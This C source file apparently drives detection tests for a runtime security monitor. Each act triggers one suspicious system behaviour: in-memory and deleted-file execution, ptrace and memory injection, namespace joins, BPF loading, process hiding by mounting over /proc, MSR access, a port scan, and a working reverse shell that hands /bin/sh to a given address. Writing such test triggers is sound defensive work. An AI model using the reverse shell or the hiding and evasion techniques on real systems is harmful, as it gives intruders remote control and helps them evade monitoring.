/*
 * The acts that no common tool does: one system call or a few, each harmless and each for real.
 */
#define _GNU_SOURCE
#include "stage.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define NOBODY 65534

extern char **environ;

static pid_t sleeper(void)
{
	pid_t child = need(fork(), "a process");

	if (child == 0) {
		sleep(20);
		_exit(0);
	}
	return child;
}

static void end(pid_t child)
{
	kill(child, SIGKILL);
	waitpid(child, 0, 0);
}

/* A descriptor of a copy of true(1) that no directory names. */
static int copied(int into)
{
	char buffer[65536];
	ssize_t length;
	int in = need(open("/bin/true", O_RDONLY | O_CLOEXEC), "/bin/true");

	while ((length = read(in, buffer, sizeof(buffer))) > 0)
		if (write(into, buffer, length) != length)
			fail(CANNOT, "a copy");
	close(in);
	return into;
}

static int memory_exec(void)
{
	int memory = need(memfd_create("payload", 0), "memfd_create");

	copied(memory);
	char *arguments[] = {"payload", 0};

	fexecve(memory, arguments, environ);
	fail(CANNOT, "a program in memory cannot be run");
}

/* Runs a file that was deleted, by its descriptor's name under /proc. */
static int deleted_exec(void)
{
	char name[64];
	int made = need(open("/tmp/.gone", O_RDWR | O_CREAT | O_EXCL, 0700), "/tmp/.gone");

	copied(made);
	int kept = need(open("/tmp/.gone", O_RDONLY), "/tmp/.gone");

	close(made);
	unlink("/tmp/.gone");
	snprintf(name, sizeof(name), "/proc/self/fd/%d", kept);
	execl(name, name, (char *)0);
	fail(CANNOT, "%s", name);
}

static int named(int count, char **arguments)
{
	if (count < 3)
		return 2;
	char *name[] = {arguments[1], 0};

	execv(arguments[2], name);
	fail(CANNOT, "%s", arguments[2]);
}

static int trace(void)
{
	pid_t child = sleeper();

	need(ptrace(PTRACE_ATTACH, child, 0, 0), "PTRACE_ATTACH");
	waitpid(child, 0, 0);
	ptrace(PTRACE_DETACH, child, 0, 0);
	end(child);
	return 0;
}

static int traced(void)
{
	need(ptrace(PTRACE_TRACEME, 0, 0, 0), "PTRACE_TRACEME");
	return 0;
}

static int memory(int flags)
{
	char name[64];
	pid_t child = sleeper();

	snprintf(name, sizeof(name), "/proc/%d/mem", child);
	close(need(open(name, flags | O_CLOEXEC), name));
	end(child);
	return 0;
}

static int inject(void)
{
	static volatile char place = 'a';
	pid_t child = sleeper();
	struct iovec from = {(void *)&place, 1}, to = {(void *)&place, 1};

	need(process_vm_writev(child, &from, 1, &to, 1, 0), "process_vm_writev");
	end(child);
	return 0;
}

static int join_namespace(void)
{
	char name[64];
	int ready[2];
	char byte;

	need(pipe(ready), "a pipe");
	pid_t child = need(fork(), "a process");

	if (child == 0) {
		if (unshare(CLONE_NEWUTS) || write(ready[1], "", 1) < 0)
			_exit(1);
		sleep(20);
		_exit(0);
	}
	close(ready[1]);
	need(read(ready[0], &byte, 1) == 1 ? 0 : -1, "a namespace cannot be made");
	snprintf(name, sizeof(name), "/proc/%d/ns/uts", child);
	int other = need(open(name, O_RDONLY | O_CLOEXEC), name);

	need(setns(other, CLONE_NEWUTS), "setns");
	end(child);
	return 0;
}

static int user_namespace(void)
{
	need(unshare(CLONE_NEWUSER), "unshare(CLONE_NEWUSER)");
	return 0;
}

static int module(void)
{
	static const char none[] = "this is no module";

	if (syscall(SYS_init_module, none, sizeof(none), "") == 0)
		fail(1, "a text became a module");
	return 0;
}

/* A filter of sockets that lets nothing through and is attached to nothing. */
static int program(void)
{
	struct bpf_insn code[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0}, {.code = BPF_JMP | BPF_EXIT}};
	union bpf_attr attributes;

	memset(&attributes, 0, sizeof(attributes));
	attributes.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attributes.insn_cnt = 2;
	attributes.insns = (uintptr_t)code;
	attributes.license = (uintptr_t) "GPL";
	close(need(syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof(attributes)), "BPF_PROG_LOAD"));
	return 0;
}

static int faults(void)
{
	need(setgid(NOBODY), "setgid");
	need(setuid(NOBODY), "setuid");
	/* faults of its own memory alone, which the kernel lets everybody do */
	close(need(syscall(SYS_userfaultfd, O_CLOEXEC | 1), "userfaultfd"));
	return 0;
}

static struct sockaddr_in to(const char *address, int port)
{
	struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(port)};

	if (inet_pton(AF_INET, address, &there.sin_addr) != 1)
		fail(2, "%s is no address", address);
	return there;
}

/* Takes connections in the background until the stage is gone, and says nothing; back once it listens. */
static int listen_at(const char *address, int port)
{
	struct sockaddr_in here = to(address, port);
	int yes = 1;
	int by = need(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), "a socket");

	setsockopt(by, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	need(bind(by, (struct sockaddr *)&here, sizeof(here)), "bind");
	need(listen(by, 8), "listen");
	if (need(fork(), "a process") != 0)
		return 0;
	while (1) {
		int one = accept(by, 0, 0);

		if (one >= 0) {
			static const char answer[] = "HTTP/1.0 200 OK\r\nContent-Length: 12\r\n\r\n#!/bin/sh\n:\n";
			char request[4096];

			if (port == 80 && read(one, request, sizeof(request)) > 0 && write(one, answer, sizeof(answer) - 1) < 0)
				continue;
			close(one);
		}
	}
}

static int listen_at_path(const char *path)
{
	struct sockaddr_un here = {.sun_family = AF_UNIX};
	int by = need(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), "a socket");

	snprintf(here.sun_path, sizeof(here.sun_path), "%s", path);
	need(bind(by, (struct sockaddr *)&here, sizeof(here)), path);
	need(listen(by, 8), "listen");
	if (need(fork(), "a process") == 0)
		pause();
	return 0;
}

static int connect_to_path(const char *path)
{
	struct sockaddr_un there = {.sun_family = AF_UNIX};
	int by = need(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), "a socket");

	snprintf(there.sun_path, sizeof(there.sun_path), "%s", path);
	need(connect(by, (struct sockaddr *)&there, sizeof(there)), path);
	return 0;
}

static int connection(const char *address, int port)
{
	struct sockaddr_in there = to(address, port);
	int by = need(socket(AF_INET, SOCK_STREAM, 0), "a socket");

	need(connect(by, (struct sockaddr *)&there, sizeof(there)), "connect");
	return by;
}

static int remote_shell(const char *address, int port)
{
	int by = connection(address, port);

	dup2(by, 0);
	dup2(by, 1);
	dup2(by, 2);
	execl("/bin/sh", "sh", (char *)0);
	return 1;
}

static int scan(const char *address)
{
	for (int port = 1; port <= 200; port++) {
		struct sockaddr_in there = to(address, port);
		int by = need(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), "a socket");

		connect(by, (struct sockaddr *)&there, sizeof(there));
		close(by);
	}
	return 0;
}

static int packets(void)
{
	/* protocol 0: it is there, and gets nothing */
	close(need(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), "a socket of packets"));
	return 0;
}

/* Opens a file the way programs of 32 bits do. */
static int open_as_32_bit(const char *path)
{
#ifdef __x86_64__
	char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;

	if (low == MAP_FAILED)
		fail(CANNOT, "memory below 4 GiB");
	snprintf(low, 4096, "%s", path);
	/* open is 5 there */
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(5L), "b"(low), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
	if (result < 0) {
		errno = -result;
		fail(CANNOT, "system calls of 32-bit programs");
	}
	close(result);
	return 0;
#else
	(void)path;
	errno = 0;
	fail(CANNOT, "this processor has no 32-bit programs");
#endif
}

static int open_by_openat2(const char *path)
{
	struct open_how how = {.flags = O_RDONLY | O_CLOEXEC};

	close(need(syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)), "openat2"));
	return 0;
}

/* Hides a process: its directory under /proc lies below another one. */
static int hide(void)
{
	char name[64];
	pid_t child = sleeper();

	mkdir("/tmp/empty", 0755);
	snprintf(name, sizeof(name), "/proc/%d", child);
	need(mount("/tmp/empty", name, 0, MS_BIND, 0), name);
	umount2(name, MNT_DETACH);
	end(child);
	return 0;
}

static int bind_mount(void)
{
	mkdir("/tmp/host", 0755);
	need(mount("/etc", "/tmp/host", 0, MS_BIND, 0), "mount");
	return 0;
}

static int write_registers(void)
{
	close(need(open("/dev/cpu/0/msr", O_WRONLY | O_CLOEXEC), "/dev/cpu/0/msr"));
	return 0;
}

int act(int count, char **arguments)
{
	const char *what = count > 0 ? arguments[0] : "";
	const char *first = count > 1 ? arguments[1] : "";
	int second = count > 2 ? atoi(arguments[2]) : 0;

	if (strcmp(what, "act") == 0)
		return act(count - 1, arguments + 1);
	if (strcmp(what, "memory-exec") == 0)
		return memory_exec();
	if (strcmp(what, "deleted-exec") == 0)
		return deleted_exec();
	if (strcmp(what, "named") == 0)
		return named(count, arguments);
	if (strcmp(what, "trace") == 0)
		return trace();
	if (strcmp(what, "traced") == 0)
		return traced();
	if (strcmp(what, "memory-read") == 0)
		return memory(O_RDONLY);
	if (strcmp(what, "memory-write") == 0)
		return memory(O_RDWR);
	if (strcmp(what, "inject") == 0)
		return inject();
	if (strcmp(what, "join-namespace") == 0)
		return join_namespace();
	if (strcmp(what, "user-namespace") == 0)
		return user_namespace();
	if (strcmp(what, "module") == 0)
		return module();
	if (strcmp(what, "program") == 0)
		return program();
	if (strcmp(what, "faults") == 0)
		return faults();
	if (strcmp(what, "listen") == 0)
		return count > 2 ? listen_at(first, second) : listen_at_path(first);
	if (strcmp(what, "connect") == 0)
		return count > 2 ? (close(connection(first, second)), 0) : connect_to_path(first);
	if (strcmp(what, "remote-shell") == 0)
		return remote_shell(first, second);
	if (strcmp(what, "scan") == 0)
		return scan(first);
	if (strcmp(what, "packets") == 0)
		return packets();
	if (strcmp(what, "open-32") == 0)
		return open_as_32_bit(first);
	if (strcmp(what, "openat2") == 0)
		return open_by_openat2(first);
	if (strcmp(what, "hide") == 0)
		return hide();
	if (strcmp(what, "bind-mount") == 0)
		return bind_mount();
	if (strcmp(what, "registers") == 0)
		return write_registers();
	errno = 0;
	fail(2, "no act is called %s", what);
}
